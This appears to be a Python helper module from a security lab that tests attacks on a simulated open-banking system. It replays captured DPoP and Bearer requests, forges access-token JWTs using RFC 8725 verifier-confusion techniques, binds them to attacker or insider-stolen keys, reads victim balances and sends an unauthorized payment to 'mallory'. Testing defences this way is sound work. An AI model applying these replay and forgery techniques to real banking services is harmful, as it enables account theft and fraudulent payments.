"""Shared tools of the token attacks (attacks.md §3 A, B, F, G): replay, proofs, forged JWTs.

Replays resend what a capture shows; DPoP requests are signed with a key the premise
hands over (the attacker's own, or FinLens's through attacker.insider); forged access
tokens are JWTs built the way RFC 8725 §2.1 says verifiers get fooled. Nothing here
reads a leg or a key by itself: callers pass what their premise allows.
"""

from __future__ import annotations

import secrets
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, NoReturn
from urllib.parse import quote

import requests

from lab import clock, pki
from lab.domain import ledger
from lab.jose.jwk import public_pem as public_pem  # what a confused verifier keys HMAC with
from lab.protocol.tokens import unverified_claims  # a JWT's payload, read unchecked
from lab.tpp import dpop_signer as tpp_dpop

from . import insider
from .attack_context import ATTACKER_SITE_PORT, AttackContext
from .capture_view import Leaked
from .forged_jws import unverified_header
from .outcome import AttackSetupError
from .premises import token_of
from .token_support import with_proof

MALLORY = "mallory"
FORGED_SCOPE = "accounts:read transactions:read payments:write"
FORGED_LIFETIME = 3600


# --- what the captures say --------------------------------------------------------------------

def account_of(leaked: Leaked) -> str | None:
    """The account id in a captured /accounts/{id}/... URL."""
    parts = leaked.path.split("/")
    return parts[2] if len(parts) > 3 and parts[1] == "accounts" else None


def is_balances(leaked: Leaked) -> bool:
    return leaked.method == "GET" and leaked.path.endswith("/balances")


def is_transactions(leaked: Leaked) -> bool:
    return leaked.method == "GET" and leaked.path.endswith("/transactions")


def mallory_iban(ctx: AttackContext) -> str:
    """Mallory's own checking IBAN: she is the bank's customer and knows it (attacks.md §0)."""
    for account in ledger.accounts_of(ctx.store, MALLORY):
        if account["type"] == "checking":
            return str(account["iban"])
    raise AttackSetupError("mallory has no checking account at the bank")


def payment_body(ctx: AttackContext, debtor: str, amount: str = "250.00") -> dict[str, Any]:
    """A POST /payments body paying mallory from `debtor`."""
    return {"debtor_account_id": debtor, "reference": "invoice 4711",
            "instructed_amount": {"amount": amount, "currency": "EUR"},
            "creditor": {"name": "Mallory Mallet", "iban": mallory_iban(ctx)}}


def accounts_url(ctx: AttackContext, account_id: str, tail: str) -> str:
    return ctx.url("bank", f"/accounts/{quote(account_id, safe='')}/{tail}")


def balances_with(ctx: AttackContext, get: Callable[[str, str], requests.Response], *,
                  listing: str, refused: str, every: bool = False) -> dict[str, Any]:
    """GET /accounts with a stolen token, then each account's balances; `get(url, what)`
    presents the token its way (as Bearer, with the attacker's own proof or certificate).

    Fails when the list is refused (`refused`) or empty, or when no balance is served; with
    `every`, already when one balance is refused (also `refused`).
    """
    listed = get(ctx.url("bank", "/accounts"), listing)
    if listed.status_code != 200:
        ctx.failed(refused, listed)
    accounts = listed.json().get("accounts") or []
    if not accounts:
        ctx.failed("the stolen token listed no accounts", listed)
    balances = {}
    for account in accounts:
        account_id = account["account_id"]
        r = get(accounts_url(ctx, account_id, "balances"), f"GET /accounts/{account_id}/balances")
        if r.status_code == 200:
            balances[account_id] = r.json()
        elif every:
            ctx.failed(refused, r)
    if not balances:
        ctx.failed("the bank listed the accounts but served no balance", listed)
    return balances


# --- sending ----------------------------------------------------------------------------------

def replay(ctx: AttackContext, leaked: Leaked, *, what: str, method: str | None = None,
           url: str | None = None, authorization: str | None = None,
           http: requests.Session | None = None, **kwargs: Any) -> requests.Response:
    """Resend a captured request with its Authorization and DPoP headers as captured.

    method/url/authorization replace the captured ones (a retargeted or swapped proof);
    without them the request goes out as it was captured (RFC 9449 §11.1's replay).
    """
    headers = {name: value for name in ("Authorization", "DPoP")
               if (value := leaked.header(name)) is not None}
    if authorization is not None:
        headers["Authorization"] = authorization
    if leaked.request_body and "json" not in kwargs and "data" not in kwargs:
        kwargs["data"] = leaked.request_body.encode()
        content_type = leaked.header("Content-Type")
        if content_type:
            headers["Content-Type"] = content_type
    return ctx.send(method or leaked.method, url or leaked.url, headers=headers, what=what,
                    http=http, **kwargs)


def dpop_send(ctx: AttackContext, signer: tpp_dpop.Signer, method: str, url: str, token: str,
              *, what: str, scheme: str = "DPoP", http: requests.Session | None = None,
              **kwargs: Any) -> requests.Response:
    """One resource request with a fresh proof by `signer`; once more with the bank's nonce
    if it asks (RFC 9449 §9: whoever holds the key can follow the nonce)."""
    sent: list[int] = []

    def send(extra: dict[str, str]) -> requests.Response:
        text = what + " (again, with the bank's DPoP nonce)" if sent else what
        sent.append(1)
        return ctx.send(method, url, headers={"Authorization": f"{scheme} {token}", **extra},
                        what=text, http=http, **kwargs)

    return with_proof(send, signer, method, url, access_token=token)


def authorization_scheme(leaked: Leaked) -> str:
    """The scheme FinLens used for the token ("DPoP" or "Bearer"), as the capture shows it."""
    scheme, _ = token_of(leaked)
    return "DPoP" if scheme.lower() == "dpop" else "Bearer"


# --- forged access tokens (attacks.md §3 F) ---------------------------------------------------

@dataclass(frozen=True)
class VictimFacts:
    """What the §3 F premise gives: the victim's sub, an account id, the TPP's client id."""

    sub: str
    account_id: str
    client_id: str
    grant_id: str | None = None


def victim_facts(ctx: AttackContext, *, with_grant: bool = False) -> VictimFacts:
    """sub from a captured ID token (token leg), an account id from a captured resource URL
    (resource leg); with_grant: the grant_id claim of the captured access token as well."""
    issued = ctx.capture.last("token", where=lambda x: "id_token" in x.json())
    id_token = unverified_claims(str(issued.json()["id_token"]))
    balances = ctx.capture.first("resource", where=is_balances)
    account_id = account_of(balances)
    sub = id_token.get("sub")
    if not isinstance(sub, str) or not account_id:
        raise AttackSetupError("the capture shows no ID token sub or no account URL")
    aud = id_token.get("aud")
    client_id = aud[0] if isinstance(aud, list) and aud else aud if isinstance(aud, str) else ""
    grant_id = None
    if with_grant:
        _, token = token_of(balances)
        grant = unverified_claims(token).get("grant_id")
        grant_id = grant if isinstance(grant, str) else None
    ctx.step("attacker", f"reads the victim's sub {sub!r} from the ID token FinLens received "
             f"and account {account_id} from a captured resource URL")
    return VictimFacts(sub, account_id, str(client_id), grant_id)


def attacker_site(ctx: AttackContext, path: str) -> str:
    return f"https://{ctx.config.host}:{ATTACKER_SITE_PORT}{path}"


def as_metadata(ctx: AttackContext) -> dict[str, Any]:
    """The AS's public discovery document (own traffic: anybody may read it)."""
    response = ctx.send("GET", ctx.url("as", "/.well-known/openid-configuration"),
                        what="reads the AS metadata")
    if response.status_code != 200:
        raise AttackSetupError(f"the AS metadata is unavailable: {response.status_code}")
    data = response.json()
    return data if isinstance(data, dict) else {}


def as_public_keys(ctx: AttackContext, meta: dict[str, Any]) -> list[dict[str, Any]]:
    response = ctx.send("GET", str(meta["jwks_uri"]), what="fetches the AS's published keys")
    if response.status_code != 200:
        raise AttackSetupError(f"the AS keys are unavailable: {response.status_code}")
    return [k for k in response.json().get("keys", []) if isinstance(k, dict)]


@dataclass
class Binding:
    """How a forged token is presented: bound to the attacker's own DPoP key and/or
    certificate when the AS metadata says the bank expects bound tokens (RFC 9449 §5.1,
    RFC 8705 §3.3), else as a plain bearer token."""

    dpop: tpp_dpop.Signer | None
    http: requests.Session | None
    cnf: dict[str, str]
    scheme: str = "DPoP"

    def send(self, ctx: AttackContext, method: str, url: str, token: str, *, what: str,
             **kwargs: Any) -> requests.Response:
        if self.dpop is not None:
            return dpop_send(ctx, self.dpop, method, url, token, what=what, http=self.http,
                             scheme=self.scheme, **kwargs)
        return ctx.send(method, url, headers={"Authorization": f"Bearer {token}"}, what=what,
                        http=self.http, **kwargs)


def own_binding(ctx: AttackContext, meta: dict[str, Any]) -> Binding:
    """The attacker's own key and certificate, named in the forged token's cnf."""
    cnf: dict[str, str] = {}
    signer, http = None, None
    if isinstance(meta.get("dpop_signing_alg_values_supported"), list):
        signer = ctx.dpop_signer()
        cnf["jkt"] = signer.jkt
    if meta.get("tls_client_certificate_bound_access_tokens") is True:
        cert, _ = ctx.certificate()
        with open(cert, "rb") as f:
            cnf["x5t#S256"] = pki.thumbprint_s256(f.read())
        http = ctx.mtls_http()
    return Binding(signer, http, cnf)


def tpp_binding(ctx: AttackContext, token: str, token_type: str | None) -> Binding:
    """How FinLens presents `token`: its DPoP key (cnf.jkt) and its certificate (cnf.x5t#S256),
    taken from its key files by the insider (attacks.md §1 MT: all the TPP holds)."""
    cnf = unverified_claims(token).get("cnf")
    cnf = cnf if isinstance(cnf, dict) else {}
    signer = insider.dpop_signer_for(ctx, token) if "jkt" in cnf else None
    http = None
    if "x5t#S256" in cnf:
        cert = insider.client_auth(ctx, "tls_client_auth")["cert"]
        http = ctx.new_http(cert=cert)
    scheme = "DPoP" if (token_type or "").lower() == "dpop" else "Bearer"
    return Binding(signer, http, {}, scheme)


def forged_claims(ctx: AttackContext, facts: VictimFacts, cnf: dict[str, str]
                  ) -> dict[str, Any]:
    """What §3 F's forged tokens claim: iss = the AS, aud = the bank, payment scope, exp +1 h."""
    now = clock.now_int(ctx.store)
    claims: dict[str, Any] = {"iss": ctx.config.issuer, "sub": facts.sub,
                              "aud": ctx.config.bank_url, "client_id": facts.client_id,
                              "scope": FORGED_SCOPE, "jti": secrets.token_urlsafe(16),
                              "iat": now, "exp": now + FORGED_LIFETIME}
    if facts.grant_id:
        claims["grant_id"] = facts.grant_id
    if cnf:
        claims["cnf"] = dict(cnf)
    return claims


def spend_token(ctx: AttackContext, token: str, account_id: str, send: Callable[..., Any]
                ) -> NoReturn:
    """§3 F's steps: GET /accounts/{id}/balances, then POST /payments to mallory.

    send(method, url, token, what=..., **kwargs) presents the token. Wins: data or payment.
    """
    stolen: dict[str, Any] = {}
    refused: requests.Response | None = None
    balances = send("GET", accounts_url(ctx, account_id, "balances"), token,
                    what=f"GET /accounts/{account_id}/balances with the token")
    if balances.status_code == 200:
        stolen["balances"] = balances.json()
    else:
        refused = balances
    paid = send("POST", ctx.url("bank", "/payments"), token,
                what="POST /payments: 250.00 EUR from the victim to mallory",
                json=payment_body(ctx, account_id))
    if paid.status_code == 201:
        stolen["payment"] = paid.json()
    else:
        refused = refused or paid
    if not stolen:
        ctx.failed("the bank refused the token for balances and for the payment", refused)
    done = " and ".join(k for k in ("balances", "payment") if k in stolen)
    ctx.succeeded(f"the bank accepted the token: {done}", stolen)


def spend_forged(ctx: AttackContext, facts: VictimFacts,
                 sign: Callable[[dict[str, Any], dict[str, Any]], str],
                 header: dict[str, Any]) -> NoReturn:
    """Forge a token with `sign(header, claims)`, bound like the bank wants, and spend it."""
    meta = as_metadata(ctx)
    binding = own_binding(ctx, meta)
    token = sign({"typ": "at+jwt", **header}, forged_claims(ctx, facts, binding.cnf))
    ctx.step("attacker", f"forges an access token for {facts.sub} (alg "
             f"{unverified_header(token).get('alg')}, exp +1 h, scope {FORGED_SCOPE})")

    def send(method: str, url: str, token: str, *, what: str, **kwargs: Any
             ) -> requests.Response:
        return binding.send(ctx, method, url, token, what=what, **kwargs)

    spend_token(ctx, token, facts.account_id, send)
